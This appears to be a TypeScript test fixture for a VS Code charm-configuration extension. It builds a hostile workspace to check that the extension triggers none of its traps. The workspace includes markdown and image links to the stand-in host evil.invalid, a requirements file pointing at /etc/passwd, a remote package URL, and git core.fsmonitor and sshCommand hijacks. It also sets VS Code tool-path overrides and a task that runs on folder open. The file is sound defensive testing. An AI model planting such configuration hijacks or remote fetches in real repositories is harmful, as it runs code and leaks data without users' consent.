/** A folder that would do harm: by what its files say, by what they are, and by what it tells git and VS Code. */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/** Nothing has this name; a request for it would be noticed. */
export const HOST = 'evil.invalid';

const TEXT = `[click](command:workbench.action.reloadWindow) ![p](https://${HOST}/p.png) <img src="https://${HOST}/i.png"> https://${HOST}/a www.${HOST} <a href="https://${HOST}">b</a>`;

const CHARM = `name: guest-book
type: charm
summary: '${TEXT}'
description: |
  ${TEXT}
base: ubuntu@24.04
platforms:
  amd64:
extensions:
  - flask-framework
config:
  options:
    greeting:
      type: string
      default: '${TEXT}'
      description: |
        # heading ${TEXT}
        [ref]: https://${HOST}/ref
        [ref]
    'odd ${TEXT}':
      type: 'kind ${TEXT}'
    '\`\`\` ${TEXT}':
      type: int
    "line\\nbreak \\x1b[2J \\u202e ${TEXT.replaceAll('"', '\\"')}":
      type: string
    mail-login:
      type: secret
      description: 'keys: user ${TEXT}'
requires:
  's3 ${TEXT}':
    interface: s3
unknown ${'`'}key${'`'} [x](https://${HOST}): 1
`;

/** A program that leaves a mark when it is started. */
function trap(work: string, name: string): string {
  const file = path.join(work, name);
  writeFileSync(file, `#!/bin/sh\necho "$0 $@" >> "${path.join(work, 'started')}"\n`);
  chmodSync(file, 0o755);
  return file;
}

/** The file that a trap leaves. */
export const mark = (work: string): string => path.join(work, 'started');

export function makeHostile(work: string): void {
  const charm = path.join(work, 'charm');
  const at = (name: string) => path.join(charm, name);
  writeFileSync(at('charmcraft.yaml'), CHARM);
  // By what the files beside it are.
  execFileSync('mkfifo', [at('paas-config.yaml')]);
  symlinkSync('/dev/zero', at('metadata.yaml'));
  mkdirSync(at('actions.yaml'));
  writeFileSync(at('config.yaml'), '');
  truncateSync(at('config.yaml'), 200 * 2 ** 20);
  rmSync(at('requirements.txt'), { force: true });
  writeFileSync(at('requirements.txt'), '-r ../../../../../../../dev/zero\n-r /etc/passwd\n');
  writeFileSync(path.join(work, 'requirements.txt'), `flask @ https://${HOST}/flask.tar.gz\n`);
  writeFileSync(path.join(work, '.charm-config.yaml'), `rules:\n  '${TEXT}': off\n`);
  writeFileSync(path.join(work, '\u001b[2J [x](command:x).py'), 'import os\nos.environ["FLASK_GREETNG"]\n');
  // By what it tells programs.
  const program = trap(work, 'trap');
  for (const name of ['juju', 'charmcraft', 'rockcraft', 'git', 'node']) trap(work, name);
  execFileSync('git', ['init', '-q', work]);
  for (const key of ['core.fsmonitor', 'core.pager', 'core.sshCommand', 'core.editor', 'diff.external'])
    execFileSync('git', ['-C', work, 'config', key, program]);
  mkdirSync(path.join(work, '.vscode'));
  const paths = Object.fromEntries(
    ['juju', 'charmcraft', 'rockcraft'].map(tool => [`charmConfig.${tool}.path`, path.join(work, tool)]),
  );
  const settings = { ...paths, 'git.path': path.join(work, 'git') };
  writeFileSync(path.join(work, '.vscode/settings.json'), JSON.stringify(settings));
  const task = { type: 'charmcraft', label: 'x', command: 'pack', runOptions: { runOn: 'folderOpen' } };
  writeFileSync(path.join(work, '.vscode/tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [task] }));
}
